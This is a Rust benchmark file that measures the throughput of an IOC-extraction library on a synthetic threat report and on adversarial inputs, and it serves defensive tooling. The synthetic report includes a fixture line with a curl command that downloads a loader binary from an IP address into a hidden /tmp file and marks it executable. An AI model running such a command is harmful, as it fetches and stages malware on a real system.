//! Extraction throughput (criterion): `cargo bench -p ioclens-core --bench extract`.
//!
//! * `report`: a 1 MiB synthetic threat report (prose, IOC tables, code blocks, every defang style).
//! * `speed-corpus`: the first 2 MiB of `$IOCLENS_SPEED_CORPUS` when set (the `speed_corpus.txt` written by
//!   `python3 scripts/eval/corpus.py --out DIR --mb 20`; `cargo run --release -p ioclens-core --example speed -- FILE` measures all 20 MiB).
//! * `adversarial/*`: 1 MiB of `[`, of `.`, of white-space runs, of hex, of 10k-character tokens, of defang
//!   markers: must stay linear (same order of magnitude as `report`).
// The root clippy.toml forbids I/O and the environment for `core`; a benchmark binary may read its input.
#![expect(
    clippy::disallowed_methods,
    reason = "a benchmark reads an optional input file named in the environment"
)]
use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use std::hint::black_box;

const MIB: usize = 1 << 20;

fn report() -> String {
    let parts = [
        "The QakBot sample beaconed to hxxps://upd-kalo[.]top/gate.php every 60 seconds using HTTPS. ",
        "We observed FIN7 operators staging payloads on 45.77.12[.]9 before lateral movement. ",
        "Emails originated from billing[at]corpay(.)ru and carried an ISO attachment. ",
        "The loader (SHA-256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855) drops a DLL. ",
        "Exploitation of CVE-2023-4966 maps to T1190 and TA0001; the script uses System.Net.WebClient. ",
        "Tested on Chrome 120.0.6099.109 and 10.0.19041.1; see README.md and invoice.zip, e.g. os.path.join. ",
        "| hxxp://sync{.}cdn-mer[.]xyz/b/c2/check | url | C2 |\n| 2a03:2880:f12f:83:face:b00c::25de | ipv6 | C2 |\n",
        "```\ncurl -s -o /tmp/.x http://45.77.12.9/x/loader.bin && chmod +x /tmp/.x\n```\n",
        "Affected organizations should apply vendor patches, rotate credentials, and review remote-access logs. ",
        "The micro\u{3002}biz and kasa\u{ff0e}org hosts, virota.\u{200b}cn and netsoft-net . tk were also seen.\n\n",
    ];
    let mut s = String::with_capacity(MIB + 256);
    let mut i = 0;
    while s.len() < MIB {
        s.push_str(parts[i % parts.len()]);
        i += 1;
    }
    s
}

fn repeat_to_mib(unit: &str) -> String {
    unit.repeat(MIB / unit.len() + 1)
}

fn bench(c: &mut Criterion) {
    let mut g = c.benchmark_group("extract");
    g.sample_size(10);
    let text = report();
    g.throughput(Throughput::Bytes(text.len() as u64));
    g.bench_function("report", |b| b.iter(|| black_box(ioclens_core::extract(black_box(&text)))));
    if let Some(path) = std::env::var_os("IOCLENS_SPEED_CORPUS") {
        let bytes = std::fs::read(path).unwrap_or_default();
        let head = String::from_utf8_lossy(&bytes[..bytes.len().min(2 * MIB)]).into_owned();
        g.throughput(Throughput::Bytes(head.len() as u64));
        g.bench_function("speed-corpus-2mib", |b| {
            b.iter(|| black_box(ioclens_core::extract(black_box(&head))));
        });
    }
    let adversarial = [
        ("brackets", repeat_to_mib("[")),
        ("dots", repeat_to_mib(".")),
        ("whitespace", repeat_to_mib(" \t \n  ")),
        ("hex", repeat_to_mib("0123456789abcdef")),
        ("long-tokens", repeat_to_mib(&format!("{} ", "a.b-c".repeat(2000)))),
        ("defang-markers", repeat_to_mib("a[.]b(.)c{.}d[dot]e\\.f . g DOT h\u{3002}i[@]j[:]//")),
        ("colons", repeat_to_mib("1:2:")),
        ("parens-url", format!("http://a.com/{}", "()".repeat(MIB / 2))),
    ];
    for (name, text) in &adversarial {
        g.throughput(Throughput::Bytes(text.len() as u64));
        g.bench_function(format!("adversarial/{name}"), |b| {
            b.iter(|| black_box(ioclens_core::extract(black_box(text))));
        });
    }
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
